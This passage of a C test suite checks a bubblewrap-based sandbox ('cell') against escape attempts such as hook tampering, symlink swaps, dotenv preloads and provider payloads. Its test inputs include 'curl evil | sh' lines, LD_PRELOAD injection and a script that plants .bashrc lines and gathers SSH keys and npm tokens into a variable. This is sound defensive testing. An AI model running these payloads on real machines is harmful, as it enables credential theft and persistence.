	free(tmux("send-keys", "-t", "t", "jobs; echo in-$CELL_NAME-$(hostname)"));
	free(tmux("send-keys", "-t", "t", "Enter"));
	cr_assert(pane_shows("in-esc-cell-esc"));
	screen = tmux("capture-pane", "-p", "-t", "t");
	cr_assert(not(eq(ptr, strstr(screen, "Running                 sleep 60 &"), NULL)), "%s",
		  screen);
	free(screen);
	free(tmux("send-keys", "-t", "t", "exit"));
	free(tmux("send-keys", "-t", "t", "Enter"));
	free(tmux("send-keys", "-t", "t", "echo back-$?-${CELL_NAME:-outside}"));
	free(tmux("send-keys", "-t", "t", "Enter"));
	cr_assert(pane_shows("back-0-outside"));
	free(tmux("kill-server", NULL, NULL, NULL));
}

Test(escape, device_nodes_work_only_in_dev_mounts)
{
	char json[512], script[512];

	snprintf(
		json, sizeof(json),
		"{\"mounts\": [{\"path\": \"/dev/null\", \"dest\": \"%s/rw-null\", \"mode\": \"rw\"}, "
		"{\"path\": \"/dev/null\", \"dest\": \"%s/dev-null\", \"mode\": \"dev\"}]}",
		t.home, t.home);
	set_config(json);
	/* bwrap binds with nodev unless the mode is dev */
	snprintf(
		script, sizeof(script),
		"echo x > %s/rw-null 2>/dev/null || echo refused; echo x > %s/dev-null && echo written",
		t.home, t.home);
	expect(in_cell(script), 0, "refused\nwritten\n");
}

Test(escape, git_metadata_cannot_be_redirected)
{
	/* renaming .git away from its read-only parts, or pointing it at a git dir of our own */
	expect(in_cell("mv .git .git.old 2>/dev/null || echo refused; "
		       "echo ../evil > .git/commondir 2>/dev/null || echo refused; "
		       "mkdir -p .git/modules/x 2>/dev/null || echo refused"),
	       0, "refused\nrefused\nrefused\n");
	cr_assert(host_has("proj/.git/config"));
	cr_assert(not(host_has("proj/.git/commondir")));
}

Test(escape, a_worktree_git_file_stays_put)
{
	char *git = th_join(t.proj, ".git");

	th_rm_rf(git);
	free(th_write(t.proj, ".git", "gitdir: /somewhere/else/.git/worktrees/proj\n"));
	th_chown_r(t.proj, t.uid, t.gid);
	expect(in_cell("echo 'gitdir: evilgit' > .git"), 2, "");
	{
		char *s = host_read("proj/.git");

		cr_assert(eq(str, s, "gitdir: /somewhere/else/.git/worktrees/proj\n"));
		free(s);
	}
	free(git);
}

Test(escape, hooks_path_in_the_project_is_read_only)
{
	free(th_write(t.proj, ".git/config", "[core]\n\thooksPath = .husky\n"));
	free(th_write(t.proj, ".husky/pre-commit", "npm test\n"));
	th_chown_r(t.proj, t.uid, t.gid);
	allow();
	expect(in_cell("echo 'curl evil | sh' >> .husky/pre-commit"), 2, "");
}

Test(escape, writable_git_when_asked_still_protects_hooks_and_config)
{
	set_config("{\"network\": {\"mode\": \"none\"}, \"hardening\": {\"git_writable\": true}}");
	expect(in_cell("echo ref > .git/ORIG_HEAD && echo written; "
		       "mv .git .git.old 2>/dev/null || echo refused; "
		       "echo x >> .git/config 2>/dev/null || echo refused; "
		       "echo x > .git/hooks/pre-commit 2>/dev/null || echo refused"),
	       0, "written\nrefused\nrefused\nrefused\n");
}

Test(escape, a_symlinked_protected_path_stops_the_cell)
{
	char *envrc = th_join(t.proj, ".envrc");
	struct th_result r;

	free(th_write(t.proj, "tools/envrc", "use nix\n"));
	cr_assert(eq(int, symlink("tools/envrc", envrc), 0));
	th_chown_r(t.proj, t.uid, t.gid);
	allow();
	r = in_cell("echo ran > ran");
	cr_assert(eq(int, r.status, 2), "%s", r.err);
	cr_assert(not(eq(ptr, strstr(r.err, ".envrc' is a symbolic link"), NULL)), "%s", r.err);
	cr_assert(not(host_has("proj/ran")));
	th_result_done(&r);
	free(envrc);
}

Test(escape, a_mount_source_turned_into_a_link_out_is_refused)
{
	char json[512], script[256];
	struct th_result r;

	free(th_write(t.proj, "cache/keep", "x"));
	th_chown_r(t.proj, t.uid, t.gid);
	snprintf(json, sizeof(json),
		 "{\"mounts\": [{\"path\": \"./cache\", \"dest\": \"%s/c2\", \"mode\": \"rw\"}]}",
		 t.home);
	set_config(json);
	/* the first cell swaps its own mount source for a link to the real home */
	snprintf(script, sizeof(script), "rm -rf cache && ln -s %s cache && echo swapped", t.home);
	expect(in_cell(script), 0, "swapped\n");
	r = in_cell("cat c2/.ssh/id_ed25519");
	cr_assert(eq(int, r.status, 2), "%s", r.err);
	cr_assert(not(eq(ptr, strstr(r.err, "now leads outside the project"), NULL)), "%s", r.err);
	cr_assert(eq(str, r.out, ""));
	th_result_done(&r);
}

Test(escape, a_bwrap_failure_is_not_the_commands_exit_status)
{
	struct th_result r;

	set_config(
		"{\"network\": {\"mode\": \"none\"}, \"mounts\": [{\"path\": \"/etc/hostname\", \"dest\": \"/usr/new/file\"}]}");
	r = in_cell("echo ran > ran");
	cr_assert(eq(int, r.status, 125), "%s", r.err);
	cr_assert(not(eq(ptr, strstr(r.err, "cell: bubblewrap could not build the cell"), NULL)),
		  "%s", r.err);
	cr_assert(not(host_has("proj/ran")));
	th_result_done(&r);
}

static bool blocks_sigterm(pid_t pid)
{
	char path[64], *s, *blk;
	bool r = false;

	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	s = th_read(path);
	blk = s ? strstr(s, "SigBlk:\t") : NULL;
	if (blk)
		r = (strtoull(blk + 8, NULL, 16) >> (SIGTERM - 1)) & 1;
	free(s);
	return r;
}

Test(escape, a_signal_before_the_cell_is_up_still_reaches_the_command)
{
	char *argv[] = {(char *)CELL,	      (char *)"run", (char *)"--",
			(char *)"/bin/sleep", (char *)"5",   NULL};
	pid_t pid = th_spawn_as(t.uid, t.gid, t.proj, argv, t.env);
	int status;

	/* as soon as cell takes signals (it blocks them for its signalfd), well before the cell
	 * and its init are up: the window where a signal used to be lost */
	for (int i = 0; i < 2000 && !blocks_sigterm(pid); i++)
		usleep(500);
	kill(pid, SIGTERM);
	waitpid(pid, &status, 0);
	/* sleep died of the forwarded SIGTERM: 143, and long before its 5 seconds */
	cr_assert(eq(int, WIFEXITED(status) ? WEXITSTATUS(status) : -1, 143));
}

Test(escape, enter_with_an_empty_shell_variable_runs_sh)
{
	char cmd[512];
	struct th_result r;

	/* the shell that runs and the $SHELL inside are one choice: here /bin/sh for both */
	snprintf(cmd, sizeof(cmd), "echo 'echo \"shell=$SHELL\"' | SHELL= %s enter 2>&1", CELL);
	r = outside(cmd);
	cr_assert(eq(int, r.status, 0), "%s", r.out);
	cr_assert(not(eq(ptr, strstr(r.out, "shell=/bin/sh\n"), NULL)), "%s", r.out);
	th_result_done(&r);
}

/* cell doctor --escape [DIR] as the test user, from cwd, its default project in tmp/tmpdir. */
static struct th_result doctor_escape(const char *cwd, const char *dir)
{
	char *argv[] = {(char *)CELL, (char *)"doctor", (char *)"--escape", (char *)dir, NULL};
	char *tmpdir = th_join(t.tmp, "tmpdir");
	struct th_result r;

	cr_assert(eq(int, cell_mkdir_p(tmpdir, 0700), 0));
	th_chown_r(tmpdir, t.uid, t.gid);
	env_add("TMPDIR=%s", tmpdir);
	th_run_as(t.uid, t.gid, cwd, argv, t.env, &r);
	free(t.env[--t.n_env]);
	t.env[t.n_env] = NULL;
	free(tmpdir);
	return r;
}

/* The line of out about what (its first one), or NULL. */
static char *line_of(const char *out, const char *what)
{
	static char line[512];

	for (const char *l = out; l && *l; l = strchr(l, '\n'), l += !!l) {
		size_t n = strcspn(l, "\n");

		if (n > 9 && !strncmp(l + 9, what, strlen(what)) && n < sizeof(line)) {
			memcpy(line, l, n);
			line[n] = '\0';
			return line;
		}
	}
	return NULL;
}

/* The line about what says verdict, and the kernel's answer (or one of two). */
static void says(const char *out, const char *what, const char *verdict, const char *answer,
		 const char *or_answer)
{
	char *line = line_of(out, what);

	cr_assert(not(eq(ptr, line, NULL)), "no line about '%s' in:\n%s", what, out);
	cr_assert(eq(int, strncmp(line, verdict, strlen(verdict)), 0), "%s", line);
	cr_assert(eq(int, strstr(line, answer) || (or_answer && strstr(line, or_answer)), 1), "%s",
		  line);
}

/*
 * What a default cell stops, made from a directory with no project: every attempt is blocked
 * (or cannot be made on this kernel), the exit status is 0, and nothing planted stays.
 */
static void every_attempt_is_blocked(const char *network, const char *loopback_errno,
				     const char *direct_errno)
{
	char *tmpdir = th_join(t.tmp, "tmpdir");
	struct th_result r = doctor_escape(t.home, NULL);
	size_t attempts = 0;

	cr_assert(eq(int, r.status, 0), "%s%s", r.out, r.err);
	cr_assert(eq(int, strncmp(r.out, "cell doctor --escape: a default cell of ", 40), 0), "%s",
		  r.out);
	cr_assert(not(eq(ptr, strstr(r.out, network), NULL)), "%s", r.out);
	/* after the heading, attempts, then the count */
	for (const char *l = strchr(r.out, '\n') + 1; *l; l = strchr(l, '\n') + 1) {
		if (!strncmp(l, "blocked  ", 9) || !strncmp(l, "skipped  ", 9))
			attempts++;
		else
			cr_assert(eq(int, l[0] >= '0' && l[0] <= '9', 1), "%s", r.out);
	}
	cr_assert(not(eq(ptr, strstr(r.out, " skipped: this cell stopped every escape tried\n"),
			 NULL)),
		  "%s", r.out);
	cr_assert(eq(sz, attempts, 16), "%s", r.out);
	says(r.out, "read ~/.ssh/id_ed25519 ", "blocked", "(ENOENT)", NULL);
	says(r.out, "read ~/.aws/ (no credentials: a marker)", "blocked", "(ENOENT)", NULL);
	says(r.out, "read ~/.gnupg/ (no file: a marker)", "blocked", "(ENOENT)", NULL);
	says(r.out, "write .git/hooks/", "blocked", "(EROFS)", NULL);
	says(r.out, "write .git/config", "blocked", "(EROFS)", NULL);
	says(r.out, "write .cell.json", "blocked", "(EROFS)", NULL);
	says(r.out, "squat 127.0.0.2:", "blocked", loopback_errno, NULL);
	says(r.out, "join the SO_REUSEPORT group of 127.0.0.1:", "blocked",
	     "(EPERM at SO_REUSEPORT)", NULL);
	says(r.out, "connect 203.0.113.1:80", "blocked", direct_errno, NULL);
	says(r.out, "raw socket", "blocked", "(EPERM)", NULL);
	says(r.out, "AF_VSOCK socket", "", "(EAFNOSUPPORT)", "this kernel has no AF_VSOCK");
	says(r.out, "TIOCSTI", "blocked", "(EPERM)", NULL);
	says(r.out, "nested user namespace", "blocked", "(EPERM)", NULL);
	says(r.out, "abstract Unix socket @", "blocked", loopback_errno, NULL);
	cr_assert(eq(ptr, strstr(r.out, "OPEN"), NULL), "%s", r.out);
	/* the markers and the default project are gone, the user's key is still there */
	cr_assert(not(host_has("home/.aws")));
	cr_assert(not(host_has("home/.gnupg")));
	cr_assert(host_has("home/.ssh/id_ed25519"));
	cr_assert(eq(sz, th_count_entries(tmpdir), 0));
	th_result_done(&r);
	free(tmpdir);
}

Test(escape, doctor_escape_finds_every_attempt_blocked)
{
	/* cell-session is not setuid here: the default (proxy) cell has a network namespace of
	 * its own, where nothing of ours listens and nothing else is routed */
	every_attempt_is_blocked("(network: proxy, in a network namespace of its own)",
				 "(ECONNREFUSED)", "(ENETUNREACH)");
}

Test(escape, doctor_escape_finds_every_attempt_blocked_by_the_kernel_in_a_proxy_cell)
{
	if (geteuid() != 0)
		th_skip("a setuid cell-session needs root to install");
	if (!cell_bpf_has_unix_hooks())
		th_skip("this kernel has no cgroup/connect_unix: a proxy cell reaches abstract Unix "
			"sockets, and doctor --escape says so");
	th_stage_setuid(&t.stage);
	/* the host's network: the kernel's BPF programs refuse, before any packet */
	every_attempt_is_blocked("(network: proxy, held to it by BPF)", "(EPERM)", "(EPERM)");
}

/* A project whose config opens something: that line says OPEN, and the status is 1. */
Test(escape, doctor_escape_says_open_for_what_a_config_opens)
{
	struct th_result r;

	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"}, "
		   "\"mounts\": [{\"path\": \"~/.ssh\", \"mode\": \"ro\"}]}");
	r = doctor_escape(t.home, t.proj);
	cr_assert(eq(int, r.status, 1), "%s%s", r.out, r.err);
	cr_assert(not(eq(ptr, strstr(r.out, "cell doctor --escape: the cell of "), NULL)), "%s",
		  r.out);
	says(r.out, "read ~/.ssh/id_ed25519 ", "OPEN     ",
	     "(read it: 17 bytes, the same as outside)", NULL);
	says(r.out, "write .cell.json", "blocked", "(EROFS)", NULL);
	cr_assert(not(eq(ptr, strstr(r.out, "\n1 OPEN, "), NULL)), "%s", r.out);
	th_result_done(&r);
}

/* The project's environment: env.files, then env.set; scripts on PATH; hooks.enter first. */
Test(escape, dotenv_files_scripts_and_enter_hooks_are_in_the_cell)
{
	struct th_result r;

	free(th_write(t.proj, ".env",
		      "# the project's\nDATABASE_URL=postgres://localhost/dev\n"
		      "export MODE=file\nGREETING=\"hello  world\"\n"));
	set_config(
		"{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		" \"env\": {\"files\": [\".env\", \".env.local\"], \"set\": {\"MODE\": \"set\"}},"
		" \"scripts\": {\"greet\": \"echo \\\"$GREETING\\\" \\\"$@\\\"\","
		"  \"fails\": \"exit 3\"},"
		" \"hooks\": {\"enter\": [\"export HOOKED=yes\", \"false\", \"export AFTER=$HOOKED\"]}}");
	/* .env.local is not there: skipped; env.set wins over the file */
	r = in_cell("echo $DATABASE_URL $MODE $HOOKED $AFTER; greet a 'b c'; fails; echo $?; "
		    "command -v greet");
	cr_assert(eq(int, r.status, 0), "%s", r.err);
	cr_assert(eq(str, r.out,
		     (char *)"postgres://localhost/dev set yes yes\nhello  world a b c\n3\n"
			     "/run/cell/bin/greet\n"));
	/* the hook that failed said so, and the cell went on */
	cr_assert(not(eq(ptr, strstr(r.err, "cell: hooks.enter[1] failed (exit 1)"), NULL)), "%s",
		  r.err);
	th_result_done(&r);
	/* cell env says where each variable comes from */
	{
		char *argv[] = {(char *)CELL, (char *)"env", NULL};

		th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
		cr_assert(eq(int, r.status, 0), "%s", r.err);
		cr_assert(not(eq(ptr,
				 strstr(r.out, "DATABASE_URL=postgres://localhost/dev\t(.env)\n"),
				 NULL)),
			  "%s", r.out);
		cr_assert(not(eq(ptr, strstr(r.out, "MODE=set\t(env.set)\n"), NULL)), "%s", r.out);
		cr_assert(not(eq(ptr, strstr(r.out, "EDITOR=vi\t(outside)\n"), NULL)), "%s", r.out);
		th_result_done(&r);
	}
	/* cell run NAME runs a script; the hooks' variables reach any shell, fish too */
	{
		char *argv[] = {(char *)CELL, (char *)"run", (char *)"greet", (char *)"x", NULL};

		th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
		expect(r, 0, "hello  world x\n");
	}
	if (access("/usr/bin/fish", X_OK) == 0)
		expect(in_cell("fish -c 'echo $HOOKED'"), 0, "yes\n");
	/* the scripts are the cell's: read-only there */
	expect(in_cell("echo 'echo pwned' > /run/cell/scripts 2>/dev/null || echo refused"), 0,
	       "refused\n");
}

/* A bad dotenv line stops the cell with file, line and column; nothing runs. */
Test(escape, a_bad_dotenv_line_is_named_and_nothing_runs)
{
	char *want = NULL;
	struct th_result r;

	free(th_write(t.proj, ".env", "A=1\nB=\"open\n"));
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"env\": {\"files\": [\".env\"]}}");
	r = in_cell("touch ran");
	cr_assert(ge(int, asprintf(&want, "%s/.env:2:8", t.proj), 0));
	cr_assert(not(eq(int, r.status, 0)));
	cr_assert(not(eq(ptr, strstr(r.err, want), NULL)), "%s", r.err);
	cr_assert(not(eq(ptr, strstr(r.err, "expected a closing '\"' on the same line"), NULL)),
		  "%s", r.err);
	cr_assert(not(host_has("proj/ran")));
	th_result_done(&r);
	free(want);
}

/*
 * The attacks a cell can make on its own next entry through the files it may write: a .env
 * that preloads a library into every program of the next cell, sets cell's own or the proxy's
 * variables, or is a link to a file of the user's outside the project (whose variables would
 * come into the cell: ~/.secrets.env, another project's .env).
 */
Test(escape, a_dotenv_file_the_cell_wrote_cannot_preload_or_bring_in_outside_secrets)
{
	struct th_result r;

	free(th_write(t.outside, "secrets.env", "CLOUD_TOKEN=outside-secret\n"));
	th_chown_r(t.outside, t.uid, t.gid);
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"env\": {\"files\": [\".env\"]}}");
	/* control: outside, the file is the user's to read */
	expect(outside("cat ../outside/secrets.env"), 0, "CLOUD_TOKEN=outside-secret\n");
	/* a link made in the cell, to the outside file by its real path */
	{
		char script[600];

		snprintf(script, sizeof(script), "ln -s %s/secrets.env .env && echo linked",
			 t.outside);
		expect(in_cell(script), 0, "linked\n");
	}
	r = in_cell("echo token=$CLOUD_TOKEN");
	cr_assert(not(eq(int, r.status, 0)), "the cell ran: %s", r.out);
	cr_assert(eq(ptr, strstr(r.out, "outside-secret"), NULL), "%s", r.out);
	cr_assert(not(eq(ptr, strstr(r.err, "leads out of the project"), NULL)), "%s", r.err);
	th_result_done(&r);
	/* the same through a directory link */
	{
		char script[600];

		/* (the cell refuses to start now: the user takes the link away outside) */
		expect(outside("rm .env && echo removed"), 0, "removed\n");
		snprintf(script, sizeof(script),
			 "ln -s %s up && ln -s up/secrets.env .env && echo linked", t.outside);
		expect(in_cell(script), 0, "linked\n");
	}
	r = in_cell("echo token=$CLOUD_TOKEN");
	cr_assert(not(eq(int, r.status, 0)), "the cell ran: %s", r.out);
	cr_assert(not(eq(ptr, strstr(r.err, "leads out of the project"), NULL)), "%s", r.err);
	th_result_done(&r);
	/* a preload, cell's own variables and the proxy's, each written from inside */
	{
		static const char *const lines[] = {"LD_PRELOAD=/tmp/evil.so",
						    "LD_LIBRARY_PATH=/tmp", "CELL_NAME=other",
						    "HTTP_PROXY=http://127.0.0.1:1"};

		for (size_t i = 0; i < ELEMENTSOF(lines); i++) {
			char script[256];

			expect(outside("rm -f .env up && echo removed"), 0, "removed\n");
			snprintf(script, sizeof(script),
				 "echo 'OK=1' > .env; echo '%s' >> .env; "
				 "echo written",
				 lines[i]);
			expect(in_cell(script), 0, "written\n");
			r = in_cell("echo ran $OK");
			cr_assert(not(eq(int, r.status, 0)), "%s: the cell ran: %s", lines[i],
				  r.out);
			cr_assert(not(eq(ptr, strstr(r.err, "may not be set by a dotenv file"),
					 NULL)),
				  "%s: %s", lines[i], r.err);
			th_result_done(&r);
		}
	}
	/* a FIFO would hold the cell command up: refused at once */
	expect(outside("rm -f .env && echo removed"), 0, "removed\n");
	expect(in_cell("mkfifo .env && echo made"), 0, "made\n");
	r = in_cell("echo ran");
	cr_assert(not(eq(int, r.status, 0)));
	cr_assert(not(eq(ptr, strstr(r.err, "is not a regular file"), NULL)), "%s", r.err);
	th_result_done(&r);
}

/* direnv's own allow of the project's .envrc, as the user (cell never runs it). */
static void direnv_allow(void)
{
	char *argv[] = {(char *)"/usr/bin/direnv", (char *)"allow", (char *)".", NULL};
	struct th_result r;

	th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
	cr_assert(eq(int, r.status, 0), "direnv allow: %s", r.err);
	th_result_done(&r);
}

/* A project whose .envrc direnv has allowed: its variables and PATH_add are in the cell. */
Test(escape, direnvs_environment_when_direnv_allowed_it)
{
	char want[1024];
	struct th_result r;

	if (access("/usr/bin/direnv", X_OK) != 0)
		th_skip("direnv is not installed (apt-get install direnv)");
	/* (what the .envrc unsets, from outside, is not in the cell either) */
	env_add("TZ=from-outside");
	free(th_write(t.proj, ".envrc",
		      "export FROM_DIRENV=yes\nPATH_add tools\ndotenv_if_exists .env.direnv\n"
		      "unset TZ\n"));
	free(th_write(t.proj, ".env.direnv", "VIA_DOTENV=1\n"));
	free(th_write(t.proj, "tools/hello", "#!/bin/sh\necho hello\n"));
	{
		char *path = th_join(t.proj, "tools/hello");

		chmod(path, 0755);
		free(path);
	}
	th_chown_r(t.proj, t.uid, t.gid);
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"env\": {\"provider\": \"direnv\"}}");
	/* not allowed by direnv: nothing of it, and the reason */
	r = in_cell("echo x$FROM_DIRENV $TZ");
	cr_assert(eq(int, r.status, 0), "%s", r.err);
	cr_assert(eq(str, r.out, (char *)"x from-outside\n"));
	cr_assert(not(eq(ptr, strstr(r.err, "direnv could not evaluate"), NULL)), "%s", r.err);
	cr_assert(not(eq(ptr, strstr(r.err, "is blocked"), NULL)), "%s", r.err);
	th_result_done(&r);
	/* allowed (by direnv itself, never by cell): applied */
	direnv_allow();
	snprintf(want, sizeof(want), "yes 1 unset\n%s/tools/hello\nhello\n", t.proj);
	expect(in_cell("echo $FROM_DIRENV $VIA_DOTENV ${TZ-unset}; command -v hello; hello"), 0,
	       want);
	/* .envrc is read-only in the cell, and .direnv (nix-direnv sources its .rc files
	 * outside) is the cell's own: what the cell writes there never reaches the project's */
	expect(in_cell("echo 'curl evil|sh' >> .envrc"), 2, "");
	expect(in_cell("echo 'curl evil|sh' > .direnv/flake-profile.rc && cat .direnv/*.rc"), 0,
	       "curl evil|sh\n");
	cr_assert(not(host_has("proj/.direnv/flake-profile.rc")));
	/* ...and is there again in the next cell */
	expect(in_cell("cat .direnv/flake-profile.rc"), 0, "curl evil|sh\n");
}

/* What direnv says the .envrc read (its watch list) keys the cache too: an edit of the
 * .envrc.local it sources is seen at the next entry, with no cell env --refresh. */
Test(escape, a_file_the_envrc_sources_refreshes_the_environment)
{
	if (access("/usr/bin/direnv", X_OK) != 0)
		th_skip("direnv is not installed (apt-get install direnv)");
	free(th_write(t.proj, ".envrc", "source_env_if_exists .envrc.local\n"));
	free(th_write(t.proj, ".envrc.local", "export LOCAL=one\n"));
	th_chown_r(t.proj, t.uid, t.gid);
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"env\": {\"provider\": \"direnv\"}}");
	direnv_allow();
	expect(in_cell("echo $LOCAL"), 0, "one\n");
	expect(in_cell("echo $LOCAL; echo 'export LOCAL=two' > .envrc.local"), 0, "one\n");
	expect(in_cell("echo $LOCAL"), 0, "two\n");
}

/*
 * A trusted, direnv-allowed .envrc sources .envrc.local if there is one; the cell writes one.
 * When the environment is next evaluated (outside, as the user), that file runs: in the
 * provider's sandbox it can write nothing outside its own places, and the home's credentials
 * are not there for it to hand to the cell.
 */
Test(escape, what_a_provider_runs_for_the_cell_is_sandboxed)
{
	char *refresh[] = {(char *)CELL, (char *)"env", (char *)"--refresh", NULL};
	char payload[2048], run[64], marker[128],
		*allow_dir = th_join(t.home, ".local/share/direnv/allow");
	bool made_run = false;
	size_t allowed;
	struct th_result r;

	if (access("/usr/bin/direnv", X_OK) != 0)
		th_skip("direnv is not installed (apt-get install direnv)");
	/* (the user's, so that only the sandbox stands in the way) */
	th_chown_r(t.outside, t.uid, t.gid);
	free(th_write(t.home, ".npmrc", "//registry.npmjs.org/:_authToken=npm_SECRET\n"));
	th_chown_r(t.home, t.uid, t.gid);
	/* a runtime directory (the session bus, a tmux server), whether XDG_RUNTIME_DIR says so or
	 * not; and TMPDIR the host's /tmp */
	snprintf(run, sizeof(run), "/run/user/%u", (unsigned)t.uid);
	if (access(run, F_OK) != 0 && geteuid() == 0) {
		cr_assert(eq(int, cell_mkdir_p(run, 0700), 0));
		made_run = true;
	}
	/* (as a user without one, only root could make it: that part of the attack is not made) */
	if (access(run, W_OK) == 0) {
		free(th_write(run, "bus-marker", "runtime-secret\n"));
		th_chown_r(run, t.uid, t.gid);
	}
	env_add("TMPDIR=/tmp");
	snprintf(marker, sizeof(marker), "/tmp/cell-provider-marker-%d", (int)getpid());
	free(th_write(t.proj, ".envrc",
		      "export FROM_DIRENV=yes\nsource_env_if_exists .envrc.local\n"));
	th_chown_r(t.proj, t.uid, t.gid);
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"env\": {\"provider\": \"direnv\"}}");
	direnv_allow();
	expect(in_cell("echo $FROM_DIRENV"), 0, "yes\n");
	allowed = th_count_entries(allow_dir);
	snprintf(
		payload, sizeof(payload),
		"mkdir -p sub && echo 'echo from-sub' > sub/.envrc\n"
		"cat > .envrc.local <<'EOF'\n"
		"echo planted >> %s/.bashrc\n"
		"echo planted > %s/note-from-provider\n"
		"direnv allow \"$PWD/sub\" 2>/dev/null\n"
		/* (a descriptor of the host's tree handed down would climb out of it all) */
		"for f in /proc/$PPID/fd/* /proc/self/fd/*; do\n"
		"  case \"$(readlink $f)\" in */.direnv) echo planted > \"$f/../../outside/via-fd\";; esac\n"
		"done 2>/dev/null\n"
		"touch %s/.cache/planted %s 2>/dev/null\n"
		"export LEAK=\"$(cat %s/.ssh/id_ed25519 %s/.npmrc %s/bus-marker)\"\n"
		"EOF\n",
		t.home, t.outside, t.home, marker, t.home, t.home, run);
	expect(in_cell(payload), 0, "");
	th_run_as(t.uid, t.gid, t.proj, refresh, t.env, &r);
	cr_assert(eq(int, r.status, 0), "%s", r.err);
	th_result_done(&r);
	cr_assert(not(host_has("outside/note-from-provider")));
	cr_assert(not(host_has("home/.cache/planted")));
	cr_assert(not(host_has("outside/via-fd")));
	cr_assert(not(eq(int, access(marker, F_OK), 0)), "the provider wrote the host's /tmp");
	cr_assert(eq(sz, th_count_entries(allow_dir), allowed), "direnv allowed more");
	{
		char *rc = th_join(t.home, ".bashrc"), *text = th_read(rc);

		cr_assert(eq(ptr, strstr(text, "planted"), NULL), "~/.bashrc: %s", text);
		free(text);
		free(rc);
	}
	/* it ran (its variables came), with nothing of those to hand over */
	expect(in_cell("echo \"$FROM_DIRENV x$LEAK\""), 0, "yes x\n");
	unlink(marker);
	if (made_run) {
		th_rm_rf(run);
	} else {
		char *bus = th_join(run, "bus-marker");

		unlink(bus);
		free(bus);
	}
	free(allow_dir);
}

/* nix's daemon, for a user's nix: started here as root when none answers (a test machine). */
static pid_t nix_daemon(void)
{
	const char *sock = "/nix/var/nix/daemon-socket/socket";
	struct sockaddr_un sun = {.sun_family = AF_UNIX};
	char *argv[] = {(char *)"/usr/bin/nix-daemon", NULL};
	char *env[] = {(char *)"NIX_CONFIG=build-users-group =\nsandbox = false\nsubstituters =",
		       (char *)"PATH=/usr/bin:/bin", NULL};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	bool up;
	pid_t pid;

	snprintf(sun.sun_path, sizeof(sun.sun_path), "%s", sock);
	up = connect(fd, (struct sockaddr *)&sun, sizeof(sun)) == 0;
	close(fd);
	if (up)
		return 0;
	if (geteuid() != 0)
		th_skip("no nix daemon answers, and only root can start one");
	unlink(sock);
	pid = th_spawn_as((uid_t)-1, (gid_t)-1, "/", argv, env);
	cr_assert(th_wait_for_file(sock, 10), "nix-daemon did not start");
	return pid;
}

/*
 * A nix flake with no inputs, evaluated offline by Debian's nix: its variables are in the cell,
 * its shellHook runs inside, the second entry is served by the cache (no nix runs), and an
 * edited flake.nix needs cell allow again.
 */
Test(escape, a_nix_flakes_environment_is_evaluated_outside_and_cached)
{
	char *strace_log = th_join(t.tmp, "strace.log"), *log;
	pid_t daemon;
	struct th_result r;

	if (access("/usr/bin/nix", X_OK) != 0)
		th_skip("nix is not installed (apt-get install nix-bin)");
	daemon = nix_daemon();
	/* (the suite's .git is no repository: nix would take the project for one and find no
	 * flake in it) */
	{
		char *git = th_join(t.proj, ".git");

		th_rm_rf(git);
		free(git);
	}
	env_add("NIX_CONFIG=experimental-features = nix-command flakes\nsubstituters =\n"
		"sandbox = false");
	free(th_write(t.proj, "flake.nix",
		      "{\n  outputs = { self }: {\n"
		      "    devShells.x86_64-linux.default = derivation {\n"
		      "      name = \"cell-test-shell\";\n      system = \"x86_64-linux\";\n"
		      "      builder = \"/bin/bash\";\n      outputs = [ \"out\" ];\n"
		      "      args = [ \"-c\" \"echo > $out\" ];\n"
		      "      GREETING = \"hello from nix\";\n"
		      "      LD_PRELOAD = \"/tmp/not-from-a-provider.so\";\n"
		      "      shellHook = \"echo hooked > /tmp/nix-hook; export HOOKED=1\";\n"
		      "    };\n  };\n}\n"));
	th_chown_r(t.proj, t.uid, t.gid);
	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
		   " \"env\": {\"provider\": \"nix\"}}");
	r = in_cell("echo $GREETING $HOOKED $IN_NIX_SHELL; cat /tmp/nix-hook; "
		    "case $LD_PRELOAD in */tmp/not-from*) echo preloaded;; esac");
	cr_assert(eq(int, r.status, 0), "%s", r.err);
	cr_assert(eq(str, r.out, (char *)"hello from nix 1 impure\nhooked\n"), "%s", r.err);
	th_result_done(&r);
	/* the second entry: the cache, and no nix process */
	{
		/* each process is let go at its exec, which is logged: nothing in the cell is
		 * traced (a sanitizer build's leak check does not work traced) */
		char *argv[] = {(char *)"/usr/bin/strace",
				(char *)"-f",
				(char *)"-qq",
				(char *)"--detach-on=execve",
				(char *)"-e",
				(char *)"trace=execve",
				(char *)"-o",
				strace_log,
				(char *)CELL,
				(char *)"run",
				(char *)"--",
				(char *)"/bin/sh",
				(char *)"-c",
				(char *)"echo $GREETING",
				NULL};

		if (access("/usr/bin/strace", X_OK) != 0)
			th_skip("strace is not installed");
		/* (cell itself is traced: a sanitizer build's leak check would refuse) */
		env_add("ASAN_OPTIONS=detect_leaks=0");
		th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
		expect(r, 0, "hello from nix\n");
		log = th_read(strace_log);
		/* (it did follow cell's children: bubblewrap's exec is there) */
		cr_assert(not(eq(ptr, strstr(log, "execve(\"/usr/bin/bwrap\""), NULL)), "%s", log);
		cr_assert(eq(ptr, strstr(log, "/usr/bin/nix"), NULL), "nix ran again:\n%s", log);
		free(log);
	}
	/* evaluated again on request, after cells have run there (and left their mount points,
	 * an empty .git among them) */
	{
		char *argv[] = {(char *)CELL, (char *)"env", (char *)"--refresh", NULL};

		th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
		cr_assert(eq(int, r.status, 0), "%s", r.err);
		cr_assert(not(eq(ptr, strstr(r.out, "provider: nix\n"), NULL)), "%s", r.out);
		cr_assert(not(eq(ptr, strstr(r.out, "GREETING=hello from nix\t(nix)\n"), NULL)),
			  "%s", r.out);
